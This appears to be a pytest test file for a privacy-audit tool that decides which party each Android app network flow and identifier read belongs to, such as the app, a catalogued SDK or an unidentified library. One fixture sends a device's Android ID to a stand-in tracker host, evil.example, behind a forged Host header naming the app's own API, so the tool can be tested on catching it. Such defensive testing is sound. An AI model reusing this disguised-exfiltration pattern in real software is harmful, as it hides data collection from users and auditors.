"""Who a flow went to and who made a read: the destination is the connection target, the app
itself only by the scope's first-party hosts, uncatalogued hosts and code are named, never the app.

The disguised request goes through a real mitmdump with the addon; its target is answered by the
local responder inside the proxy (lazy connection strategy): nothing leaves loopback.
"""

from __future__ import annotations

import json

import openpyxl
import pytest

from analysis.party import FIRST_PARTY, SERVICE_PROVIDER, THIRD_PARTY, UNATTRIBUTED, host_party, stack_party
from analysis.pipeline import analyze
from analysis.report import write_report
from analysis.scope import ScopeError, from_dict
from piiaudit import hosts, sdks
from piiaudit.store import SessionStore
from tests.support.demo_device import ANDROID_ID, PROFILE
from tests.support.mitmdump import Mitmdump, addon_args, via_proxy
from tests.support.samples import demo_scope_path

APP = "com.example.demoshop"


@pytest.fixture(scope="module")
def disguised(tmp_path_factory):
    """One request to tracker.evil.example:443 that writes `Host: api.demoshop.example`, analysed and reported."""
    tmp = tmp_path_factory.mktemp("disguised")
    session = tmp / "s"
    # Both names are answered locally, so no name is ever resolved whichever one the proxy looked at.
    args = addon_args(session, PROFILE, respond_hosts=["tracker.evil.example", "api.demoshop.example"])
    with Mitmdump(tmp / "conf", args, cwd=tmp) as proxy:
        status, _ = via_proxy(proxy.port, proxy.ca_pem, "POST", "https://tracker.evil.example/v1/report",
                              json.dumps({"aid": ANDROID_ID}).encode(),
                              {"Host": "api.demoshop.example", "Content-Type": "application/json"})
    assert status == 200
    result = analyze(session, scope=demo_scope_path())
    paths = write_report(session, result=result)
    return session, result, paths


def test_the_destination_is_the_connection_target_and_the_host_header_is_kept_apart(disguised):
    session, _, _ = disguised
    (row,) = SessionStore(session, create=False).rows("SELECT host, host_header, url FROM flows")
    assert row["host"] == "tracker.evil.example"
    assert row["host_header"] == "api.demoshop.example"


def test_a_disguised_destination_is_flagged_and_judged_by_where_the_data_went(disguised):
    _, result, paths = disguised
    keys = {(f["rule_id"], f["pii_type"], f["sdk"], f["host"]) for f in result.findings.to_dict("records")}
    assert ("PIPL-HIDDEN-DEST", None, "unattributed:evil.example", "tracker.evil.example") in keys
    # Sent to a third party, not "to the app's own servers" as the Host header claims.
    assert ("IM5.1", "android_id", "unattributed:evil.example", "tracker.evil.example") in keys
    assert not [k for k in keys if k[0] == "IM3.1-SEND" or k[3] == "api.demoshop.example"]
    report = json.loads(paths["json"].read_text("utf-8"))
    hidden = [f for f in report["findings"] if f["rule_id"] == "PIPL-HIDDEN-DEST"]
    assert hidden and hidden[0]["sdk_label"] == "未归属第三方 evil.example / unattributed third party evil.example"
    cells = {str(c.value) for ws in openpyxl.load_workbook(paths["xlsx"]).worksheets for r in ws.iter_rows()
             for c in r if c.value}
    assert any("header:host=api.demoshop.example" in c for c in cells)
    assert "registrable domain evil.example, uncatalogued, not in first_party_hosts" in cells   # Timeline sheet
    assert not any("App本身" in c and "evil" in c for c in cells)


def test_the_timeline_stores_each_flows_party_and_reason(disguised):
    session, _, _ = disguised
    rows = SessionStore(session, create=False).rows("SELECT party, party_reason FROM timeline WHERE stream = 'flow'")
    assert {(r["party"], r["party_reason"]) for r in rows} == {
        (THIRD_PARTY, "registrable domain evil.example, uncatalogued, not in first_party_hosts")}


@pytest.mark.parametrize("host, listed, want", [
    ("api.demoshop.example", True, (None, FIRST_PARTY, "scope first_party_hosts demoshop.example")),
    ("ulogs.umeng.com", True, ("umeng", THIRD_PARTY, "catalog host rule umeng.com")),
    ("api2.branch.io", True, ("branch", THIRD_PARTY, "catalog host rule branch.io")),
    ("cdn.unknown-vendor.com.cn", True, ("unattributed:unknown-vendor.com.cn", THIRD_PARTY,
                                         "registrable domain unknown-vendor.com.cn, uncatalogued, "
                                         "not in first_party_hosts")),
    # Without the operator's hosts an uncatalogued host is neither the app nor a known third party.
    ("api.demoshop.example", False, ("unattributed:demoshop.example", UNATTRIBUTED,
                                     "registrable domain demoshop.example, uncatalogued")),
])
def test_each_destination_gets_its_party_and_reason(host, listed, want):
    scope = from_dict({"first_party_hosts": ["demoshop.example"]} if listed else {})
    assert host_party(host, scope) == want


def test_a_cloud_provider_is_a_service_provider_not_a_recipient():
    infra = next(s for s in sdks.catalog().values() if s.category == "infrastructure" and s.hosts)
    actor, party, reason = host_party("x." + infra.hosts[0], from_dict({"first_party_hosts": ["demoshop.example"]}))
    assert (actor, party) == (infra.id, SERVICE_PROVIDER) and "infrastructure" in reason
    assert "云服务提供方" in sdks.label(infra.id) and "service provider" in sdks.label(infra.id)


def test_a_scope_file_names_an_uncatalogued_sdk_by_its_hosts_and_prefixes():
    scope = from_dict({"first_party_hosts": ["demoshop.example"],
                       "sdks": {"AcmeMetrics": {"hosts": ["metrics.acme-sdk.example"], "prefixes": ["io.acme.metrics."]}},
                       "stated": {"app": [], "sdks": {"AcmeMetrics": ["android_id"]}}})
    assert host_party("eu.metrics.acme-sdk.example", scope) == (
        "AcmeMetrics", THIRD_PARTY, "scope sdks AcmeMetrics host metrics.acme-sdk.example")
    assert scope.stated_for("AcmeMetrics") == {"android_id"}
    with pytest.raises(ScopeError, match="unknown SDK id 'Acme'.*declare an uncatalogued SDK"):
        from_dict({"stated": {"sdks": {"Acme": ["android_id"]}}})
    with pytest.raises(ScopeError, match="give hosts, prefixes or both"):
        from_dict({"sdks": {"Acme": {}}})


def test_uncatalogued_code_in_a_stack_is_an_unidentified_library_not_the_app():
    frames = ["io.acme.metrics.core.Collector.run(Collector.java:12)", f"{APP}.MainActivity.onCreate(MainActivity.java:3)"]
    assert sdks.attribute(frames, APP)[0] == "library:io.acme"
    assert sdks.attribute(frames[1:], APP)[0] is None
    assert sdks.attribute(["com.umeng.commonsdk.UMConfigure.init(UMConfigure.java:1)"], APP)[0] == "umeng"
    assert sdks.attribute(frames, APP, {"io.acme.metrics.": "AcmeMetrics"})[0] == "AcmeMetrics"
    assert sdks.label("library:io.acme") == "未识别的第三方库 io.acme (unidentified third-party library io.acme)"


def test_a_read_by_unidentified_code_before_consent_is_an_sdk_finding_with_its_reason(tmp_path):
    store = SessionStore(tmp_path / "s", create=True)
    stack = "io.acme.metrics.core.Collector.run(Collector.java:12)\n" + f"{APP}.App.onCreate(App.java:5)"
    store.write({"events": [
        {"ts": 1000.0, "kind": "pii_read", "api": "android.provider.Settings$Secure.getString", "pii_type": "android_id",
         "value": ANDROID_ID, "sdk": None, "stack": stack, "process": APP},
        {"ts": 1001.0, "kind": "pii_read", "api": "android.provider.Settings$Secure.getString", "pii_type": "android_id",
         "value": ANDROID_ID, "sdk": None, "stack": f"{APP}.App.onCreate(App.java:9)", "process": APP}]})
    store.close()
    result = analyze(tmp_path / "s", scope=demo_scope_path())
    keys = {(f["rule_id"], f["sdk"]) for f in result.findings.to_dict("records")}
    assert ("SDK-PRECONSENT", "library:io.acme") in keys and ("IM3.1", None) in keys
    rows = SessionStore(tmp_path / "s", create=False).rows(
        "SELECT sdk, party, party_reason FROM timeline WHERE stream = 'event' ORDER BY pos")
    assert [(r["sdk"], r["party"]) for r in rows] == [("library:io.acme", THIRD_PARTY), (None, FIRST_PARTY)]
    assert rows[0]["party_reason"] == (f"frame io.acme.metrics.core.Collector neither in the app package {APP} "
                                       "nor catalogued")


@pytest.mark.parametrize("host, want", [
    ("a.b.umeng.com", "umeng.com"), ("x.api.example.com.cn", "example.com.cn"), ("www.bbc.co.uk", "bbc.co.uk"),
    ("umeng.com", "umeng.com"), ("10.0.0.1", "10.0.0.1"), ("localhost", "localhost"), ("", ""),
])
def test_registrable_domain(host, want):
    assert hosts.registrable_domain(host) == want


def test_a_pass_through_client_library_lets_the_code_that_called_it_speak():
    frames = ["com.google.android.gms.ads.identifier.AdvertisingIdClient.getAdvertisingIdInfo(AdvertisingIdClient.java:1)",
              "com.umeng.commonsdk.statistics.idtracking.AdId.get(AdId.java:3)", f"{APP}.App.onCreate(App.java:5)"]
    assert sdks.attribute(frames, APP)[0] == "umeng"
    assert sdks.attribute([frames[0], frames[2]], APP)[0] is None


@pytest.mark.parametrize("cls, want", [
    ("a.b.c", True), ("a.a.a$b", True), ("o.hz", True), ("a", True), ("a.b.C0", True),
    ("io.acme.Collector", False), ("com.umeng.a.b", False), (f"{APP}.a", False), ("abc.d.e", False),
])
def test_obfuscated_is_every_label_one_or_two_characters(cls, want):
    assert sdks.is_obfuscated(cls) is want


def test_a_read_through_an_obfuscated_helper_goes_to_the_innermost_known_sdk_frame():
    helper = "a.a.a.a(SourceFile:3)"
    umeng = "com.umeng.commonsdk.statistics.common.DeviceConfig.getDeviceIdForGeneral(DeviceConfig.java:40)"
    app = f"{APP}.App.onCreate(App.java:5)"
    assert sdks.attribute([helper, "a.b.c(SourceFile:1)", umeng, app], APP) == ("umeng", ["umeng"])
    assert sdks.obfuscated_helper([helper, umeng, app]) == "a.a.a"
    # only the app further out: the app read it through its own (repackaged) code
    assert sdks.attribute([helper, app], APP)[0] is None
    # an unknown, non-obfuscated library further out stays an unidentified library
    assert sdks.attribute([helper, "io.acme.metrics.Collector.run(Collector.java:2)", app], APP)[0] == "library:io.acme"
    # nothing but the helper: it decides, as an unidentified library named by its prefix
    assert sdks.attribute([helper], APP)[0] == "library:a.a"
    assert sdks.obfuscated_helper([helper]) is None
    actor, reason = stack_party("\n".join([helper, umeng, app]), APP, None)
    assert actor == "umeng" and reason == (
        "catalog package prefix of com.umeng.commonsdk.statistics.common.DeviceConfig "
        "(called through the obfuscated helper a.a.a)")
